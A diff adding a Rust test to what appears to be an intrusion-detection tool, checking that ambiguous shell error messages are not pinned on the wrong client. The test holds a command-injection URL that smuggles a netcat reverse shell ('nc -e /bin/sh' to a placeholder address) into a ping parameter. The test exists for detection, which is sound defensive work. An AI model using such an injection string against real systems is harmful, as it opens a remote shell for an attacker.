@@ -1013,6 +1013,32 @@ fn a_command_in_a_posts_body_shows_in_what_the_shell_complains_of() {
 }
 
 #[test]
+fn a_complaint_that_names_nobody_is_nobodys_where_several_may_be_meant() {
+    let shell = "sh: 1: nc: not found";
+    let exec = |client: &str| Line { status: 200, ..post(client, "/tools/ping.php") };
+    let mut host = Host::new();
+    host.sees(0, &exec(ACTOR));
+    host.sees(1, &post("198.51.100.20", "/checkout"));
+    assert_eq!(host.reads(1, None, shell), &Told::default());
+    assert_eq!(host.incidents().len(), 0, "{:#?}", host.incidents());
+    host.sees(10, &exec(ACTOR));
+    host.sees(11, &exec(ACTOR));
+    host.reads(11, None, shell);
+    assert_eq!(host.the_incident().actor, ACTOR);
+    // Nor does it tell of two attackers which one it was.
+    let mut host = Host::new();
+    let inject = |client: &str| get(client, "/ping?ip=1;nc+-e+/bin/sh+192.0.2.1+99");
+    host.sees(0, &inject(ACTOR));
+    host.sees(0, &inject("198.51.100.20"));
+    host.reads(1, None, shell);
+    assert!(
+        host.incidents().iter().all(|incident| incident.outcome < Outcome::LikelySucceeded),
+        "{:#?}",
+        host.incidents()
+    );
+}
+
+#[test]
 fn one_error_of_the_database_may_be_a_fault_of_the_application() {
     let mut host = Host::new();
     let complaint = "PHP Fatal error:  Uncaught mysqli_sql_exception: You have an error in your SQL syntax";
